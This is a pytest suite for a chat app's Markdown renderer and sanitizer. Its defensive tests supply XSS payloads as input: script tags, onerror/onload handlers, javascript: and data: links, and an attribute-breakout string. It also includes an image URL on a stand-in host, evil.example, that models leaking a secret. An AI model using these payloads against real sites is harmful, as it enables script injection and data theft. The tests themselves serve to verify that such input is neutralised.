"""chat/rendering.py: Markdown features users expect, and nothing a reply could use to attack the page."""

from pathlib import Path

import pytest
from django.conf import settings

from chat.models import Message
from chat.rendering import format_stats, pygments_css, render_markdown


def test_it_renders_tables_with_alignment():
    html = render_markdown("| name | qty |\n|:--|--:|\n| leek | 2 |")
    assert "<table>" in html
    assert '<th style="text-align:left">name</th>' in html
    assert '<td style="text-align:right">2</td>' in html


def test_it_highlights_fenced_code_with_classes():
    html = render_markdown("```python\ndef greet():\n    return '<b>'\n```")
    assert '<pre><code class="language-python">' in html
    assert '<span class="k">def</span>' in html
    assert '<span class="nf">greet</span>' in html
    assert "&lt;b&gt;" in html  # code text is escaped, not markup
    assert "<b>" not in html


def test_it_prints_code_in_unknown_languages_plainly():
    html = render_markdown("```nosuchlang\n<i>x</i>\n```")
    assert html == '<pre><code class="language-nosuchlang">&lt;i&gt;x&lt;/i&gt;\n</code></pre>\n'


def test_it_keeps_a_hostile_language_name_in_its_attribute():
    html = render_markdown('```"><script>alert(1)</script>\ncode\n```')
    assert "<script>" not in html
    assert html.startswith('<pre><code class="language-&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">')


def test_it_renders_common_markdown():
    html = render_markdown("# Title\n\n*a* **b** ~~c~~ `d`\n\n- one\n- two\n\n3. three\n\n> quote")
    for fragment in (
        "<h1>Title</h1>",
        "<em>a</em>",
        "<strong>b</strong>",
        "<s>c</s>",
        "<code>d</code>",
        "<li>one</li>",
        '<ol start="3">',
        "<blockquote>",
    ):
        assert fragment in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<iframe src="https://evil.example"></iframe>',
        "<style>body{display:none}</style>",
        '<a href="javascript:alert(1)">x</a>',
        '<div onclick="alert(1)">x</div>',
        "<svg onload=alert(1)>",
    ],
)
def test_it_shows_raw_html_as_text(text):
    html = render_markdown(text)
    assert "<" + text[1:] not in html
    assert "&lt;" in html


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<javascript:alert(1)>",
    ],
)
def test_it_drops_unsafe_link_schemes(text):
    assert "href" not in render_markdown(text)


def test_it_marks_links_noopener_noreferrer_nofollow():
    html = render_markdown("[docs](https://example.com/a?b=1) <mailto:a@example.com>")
    assert '<a href="https://example.com/a?b=1" rel="noopener noreferrer nofollow">docs</a>' in html
    assert '<a href="mailto:a@example.com" rel="noopener noreferrer nofollow">' in html


def test_it_turns_images_into_links_so_they_are_not_fetched():
    html = render_markdown("![chart](https://evil.example/p.png?leak=secret)")
    assert "<img" not in html
    assert (
        '<a href="https://evil.example/p.png?leak=secret" rel="noopener noreferrer nofollow">chart</a>'
        in html
    )


def test_it_strips_disallowed_markup_even_if_the_renderer_produced_it():
    from chat.rendering import sanitize

    html = sanitize(
        '<p style="color:red" onclick="x()">hi<script>bad()</script></p><a href="javascript:x">l</a>'
    )
    assert html == '<p>hi</p><a rel="noopener noreferrer nofollow">l</a>'


def test_it_renders_nothing_for_empty_text():
    assert render_markdown("") == ""


def test_it_formats_stats():
    message = Message(prompt_tokens=120, completion_tokens=300, ttft_ms=480.0, duration_ms=3480.0)
    assert format_stats(message) == (
        "120 prompt · 300 completion tokens · first token 480 ms · 3.5 s total · 100.0 tok/s"
    )


def test_it_leaves_unknown_stats_out():
    assert (
        format_stats(Message(prompt_tokens=5, completion_tokens=None, duration_ms=900.0))
        == "5 prompt · 900 ms total"
    )


def test_the_code_stylesheet_is_current():
    path = Path(settings.BASE_DIR) / "static" / "chat" / "code.css"
    assert path.read_text() == pygments_css()


def test_complete_blocks_end_at_blank_lines_outside_code_fences():
    from chat.rendering import complete_blocks

    text = "# Title\n\nFirst para.\n\n```py\nx = 1\n\ny = 2\n```\n\nStill wri"
    end = complete_blocks(text, 0)
    assert text[:end] == "# Title\n\nFirst para.\n\n```py\nx = 1\n\ny = 2\n```\n\n"  # not inside the fence
    assert complete_blocks(text, end) == end  # the tail is unfinished
    assert complete_blocks("```\nopen fence\n\nstill code\n", 0) == 0
    assert complete_blocks("no blank line yet", 0) == 0
